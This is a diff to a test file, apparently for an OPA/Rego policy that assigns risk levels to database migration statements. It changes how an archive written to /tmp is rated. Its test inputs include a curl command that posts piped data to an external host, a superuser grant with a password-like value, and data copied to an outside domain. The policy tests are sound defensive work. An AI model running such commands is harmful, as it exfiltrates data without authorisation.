@@ -155,7 +155,8 @@ test_fires_on_containers_with_the_rights_of_the_machine if {
 test_fires_on_what_statements_open if {
 	opens("database", "superuser", ["sync", "Supp0rt2024"], "a.sql", "Adds tables.") == {"high"}
 	opens("database", "runs", ["curl -d @- https://x.querykit.io"], "a.sql", "Tunes queries.") == {"high"}
-	opens("database", "runs", ["gzip > /tmp/a.gz"], "a.sql", "Tunes queries.") == {"medium"}
+	opens("database", "runs", ["gzip > /tmp/a.gz"], "a.sql", "Tunes queries.") == set()
+	opens("database", "runs", [""], "a.sql", "Tunes queries.") == {"medium"}
 	opens("database", "copies", ["m.auditcols.io"], "a.sql", "Adds columns.") == {"high"}
 	opens("database", "sends", ["m.auditcols.io"], "a.sql", "Adds columns.") == {"medium"}
 	opens("database", "unguards", ["customers"], "a.sql", "Tunes queries.") == {"high"}
